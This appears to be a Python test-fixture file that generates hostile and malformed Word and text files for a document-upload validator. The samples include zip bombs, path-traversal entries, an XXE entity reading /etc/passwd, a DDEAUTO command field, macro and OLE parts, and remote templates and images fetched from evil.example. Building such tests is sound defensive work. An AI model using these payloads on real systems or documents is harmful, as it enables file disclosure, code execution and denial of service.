"""Files that must not be taken, by name; each is made when asked for."""

import zipfile
from collections.abc import Callable

from tests.documents import word_files as w

NL = b"\n"
PAD = b" " * 4000
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;</x>'
UTF16_DOCTYPE = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def _without(name: str) -> bytes:
    return w.changed(lambda parts: parts.pop(name))


def _symlink() -> bytes:
    data = w.with_part("word/link.xml", b"<x/>")
    at = data.rfind(b"word/link.xml") - 46
    return data[: at + 38] + (0o120777 << 16).to_bytes(4, "little") + data[at + 42 :]


def _doctype_in_main() -> bytes:
    def change(parts: w.Parts) -> None:
        head, _, rest = parts[w.MAIN].partition(b"?>")
        parts[w.MAIN] = head + b'?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rest

    return w.changed(change)


def _twice() -> bytes:
    parts = list(w.parts_of(w.plain_word()).items())
    return w.packed([*parts, ("word/Document.xml", b"<x/>")])


def _deep() -> bytes:
    return w.with_body("<w:p>" * 500 + "</w:p>" * 500)


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    # The name and what is inside differ
    "empty": ("a.docx", lambda: b""),
    "empty text": ("a.txt", lambda: b""),
    "blank text": ("a.txt", lambda: b" \r\n\t\n "),
    "byte order mark alone": ("a.txt", lambda: b"\xef\xbb\xbf"),
    "no extension": ("draft", lambda: b"text"),
    "pdf": ("a.pdf", lambda: b"%PDF-1.7"),
    "old word": ("a.doc", lambda: OLE),
    "docm by name": ("a.docm", w.plain_word),
    "executable by name": ("a.exe", lambda: b"MZ"),
    "double extension": ("a.docx.exe", w.plain_word),
    "old word as docx": ("a.docx", lambda: OLE),
    "pdf as docx": ("a.docx", lambda: b"%PDF-1.7\n" + PAD),
    "text as docx": ("a.docx", lambda: b"The members agree."),
    "word as text": ("a.txt", w.plain_word),
    "pdf as text": ("a.txt", lambda: b"%PDF-1.7\nhello"),
    "rtf as text": ("a.txt", lambda: b"{\\rtf1 hello}"),
    "program as text": ("a.txt", lambda: b"MZ\x90 hello"),
    # Plain texts
    "NUL": ("a.txt", lambda: b"The members\x00 agree."),
    "escape sequence": ("a.txt", lambda: b"The \x1b[31mmembers\x1b[0m agree."),
    "latin-1": ("a.txt", lambda: "République démocratique".encode("latin-1")),
    "cp1252 quotes": ("a.txt", lambda: "The “members” agree.".encode("cp1252")),
    "utf-16": ("a.txt", lambda: "The members agree.".encode("utf-16")),
    "utf-16 without mark": ("a.txt", lambda: "The members agree.".encode("utf-16-le")),
    "surrogates": ("a.txt", lambda: b"The \xed\xa0\x80 members"),
    "invisible text": ("a.txt", lambda: b"\xe2\x80\x8b"),
    # The ZIP directory
    "truncated": ("a.docx", lambda: w.plain_word()[:-600]),
    "half": ("a.docx", lambda: w.plain_word()[: len(w.plain_word()) // 2]),
    "tail alone": ("a.docx", lambda: b"PK\x03\x04" + w.plain_word()[-400:]),
    "damaged part": ("a.docx", lambda: w.plain_word().replace(b"word/document.xml", b"word/documenu.xml", 1)),
    "wrong checksum": ("a.docx", lambda: w.patched_directory(w.plain_word(), 16, b"\x01\x02\x03\x04")),
    "understated size": ("a.docx", lambda: w.patched_directory(w.plain_word(), 24, (50).to_bytes(4, "little"))),
    "overstated size": ("a.docx", lambda: w.patched_directory(w.plain_word(), 24, (1 << 31).to_bytes(4, "little"))),
    "encrypted": ("a.docx", lambda: w.patched_directory(w.plain_word(), 8, b"\x01\x00")),
    "odd compression": ("a.docx", lambda: w.patched_directory(w.plain_word(), 10, b"\x0c\x00")),
    "bytes before": ("a.docx", lambda: b"PK\x05\x06" + PAD + w.plain_word()),
    "bomb by ratio": ("a.docx", lambda: w.with_part("word/media/image9.bmp", bytes(30_000_000))),
    "bomb by sum": ("a.docx", lambda: w.packed([*w.parts_of(w.plain_word()).items(), *_many_large()])),
    "too many parts": ("a.docx", lambda: w.packed([(f"word/{n}.xml", b"") for n in range(2_500)])),
    "same bytes twice": ("a.docx", w.overlapping),
    "same name twice": ("a.docx", _twice),
    "parent folder": ("a.docx", lambda: w.with_part("../../etc/cron.d/x", b"x")),
    "inner parent folder": ("a.docx", lambda: w.with_part("word/../../x.xml", b"<x/>")),
    "absolute name": ("a.docx", lambda: w.with_part("/etc/passwd", b"x")),
    "drive letter": ("a.docx", lambda: w.with_part("C:/x.xml", b"<x/>")),
    "backslash": ("a.docx", lambda: w.with_part("word\\..\\x.xml", b"<x/>")),
    "control in a name": ("a.docx", lambda: w.with_part("word/x\n.xml", b"<x/>")),
    "NUL in a name": ("a.docx", lambda: w.plain_word().replace(b"docProps/core.xml", b"docProps/cor\x00.xml")),
    "symbolic link": ("a.docx", _symlink),
    # What the package says it is
    "any zip": ("a.docx", lambda: w.packed([("readme.txt", b"hello")])),
    "no content types": ("a.docx", lambda: _without(w.TYPES)),
    "no package relations": ("a.docx", lambda: _without("_rels/.rels")),
    "no main part": ("a.docx", lambda: _without(w.MAIN)),
    "macro-enabled type": ("a.docx", lambda: w.main_type(MACRO_MAIN)),
    "template type": ("a.docx", lambda: w.main_type(TEMPLATE_MAIN)),
    "spreadsheet": ("a.docx", lambda: w.main_type(SHEET_MAIN)),
    "no type": ("a.docx", lambda: w.main_type("application/xml")),
    "vbaProject.bin": ("a.docx", lambda: w.with_part("word/vbaProject.bin", b"x")),
    "vbaProject elsewhere": ("a.docx", lambda: w.with_part("custom/VBAPROJECT.BIN", b"x")),
    "OLE object": ("a.docx", lambda: w.with_part("word/embeddings/oleObject1.bin", OLE)),
    "OLE under another name": ("a.docx", lambda: w.with_part("word/media/image1.png", OLE)),
    "embedded workbook": ("a.docx", lambda: w.with_part("word/embeddings/sheet.xlsx", b"PK\x03\x04")),
    "ActiveX": ("a.docx", lambda: w.with_part("word/activeX/activeX1.xml", b"<x/>")),
    "embedded program": ("a.docx", lambda: w.with_part("word/media/run.exe", b"MZ")),
    # What it would fetch
    "external template": ("a.docx", lambda: w.with_relation("attachedTemplate", "https://evil.example/t.dotm")),
    "template in settings": (
        "a.docx",
        lambda: w.with_relation("attachedTemplate", "\\\\evil\\t.dotm", part="word/_rels/settings.xml.rels"),
    ),
    "external image": ("a.docx", lambda: w.with_relation("image", "http://evil.example/p.png")),
    "external image without mode": (
        "a.docx",
        lambda: w.with_relation("image", "http://evil.example/p.png", external=False),
    ),
    "external OLE": ("a.docx", lambda: w.with_relation("oleObject", "mhtml:http://evil.example/x")),
    "frame": ("a.docx", lambda: w.with_relation("frame", "http://evil.example/x.htm")),
    "subdocument": ("a.docx", lambda: w.with_relation("subDocument", "other.docx", external=False)),
    "alternative chunk": ("a.docx", lambda: w.with_relation("aFChunk", "chunk.html", external=False)),
    "link to a file": ("a.docx", lambda: w.with_relation("hyperlink", "file:///C:/Users/x.txt")),
    "link to a share": ("a.docx", lambda: w.with_relation("hyperlink", "\\\\evil\\share")),
    "script link": ("a.docx", lambda: w.with_relation("hyperlink", "javascript:alert(1)")),
    "inner target outside": ("a.docx", lambda: w.with_relation("image", "../../../etc/passwd", external=False)),
    "DDE field": ("a.docx", lambda: w.with_body(w.field(' DDEAUTO c:\\\\cmd "/k calc" '))),
    "INCLUDEPICTURE field": ("a.docx", lambda: w.with_body(w.field(' INCLUDEPICTURE "http://evil.example/p" '))),
    "simple field": (
        "a.docx",
        lambda: w.with_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT x "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    ),
    # XML
    "DOCTYPE in the text": ("a.docx", _doctype_in_main),
    "DOCTYPE elsewhere": ("a.docx", lambda: w.with_part("customXml/item1.xml", DOCTYPE)),
    "DOCTYPE in UTF-16": ("a.docx", lambda: w.with_part("customXml/item1.xml", UTF16_DOCTYPE)),
    "DOCTYPE under another name": ("a.docx", lambda: w.with_part("word/media/image1.svg", DOCTYPE)),
    "broken XML": ("a.docx", lambda: w.replaced(w.MAIN, b"</w:body>", b"</w:bod>")),
    "no XML": ("a.docx", lambda: w.with_part(w.MAIN, b"hello")),
    "unknown encoding": ("a.docx", lambda: w.with_part(w.MAIN, b'<?xml version="1.0" encoding="x-none"?><x/>')),
    "deeply nested": ("a.docx", _deep),
    "no text": ("a.docx", lambda: w.plain_word("   ")),
    "over 20 MB": ("a.docx", lambda: w.packed([("word/media/a.bmp", bytes(21 * 1024 * 1024))], zipfile.ZIP_STORED)),
    "text over 20 MB": ("a.txt", lambda: b"The members agree.\n\n" * 1_100_000),
    "endless text": ("a.txt", lambda: b"The members agree.\n\n" * 200_000),
}


def _many_large() -> list[tuple[str, bytes]]:
    import random

    half = random.Random(7).randbytes(150_000)
    return [(f"word/media/{n}.bmp", half + bytes(9_000_000)) for n in range(15)]
